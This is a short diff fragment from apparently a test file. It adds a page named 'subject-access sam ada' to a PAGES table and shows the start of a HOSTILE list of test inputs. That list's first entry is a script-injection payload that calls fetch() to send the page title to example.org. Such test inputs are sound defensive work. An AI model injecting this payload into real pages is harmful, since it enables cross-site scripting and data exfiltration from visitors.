@@ -46,6 +46,7 @@ PAGES = {
     "tabletop fees": 3,
     "tabletop fees --answers": 3,
     "handbook": None,
+    "subject-access sam ada": None,
 }
 HOSTILE = [
     "<script>fetch('https://example.org/?' + document.title)</script>",
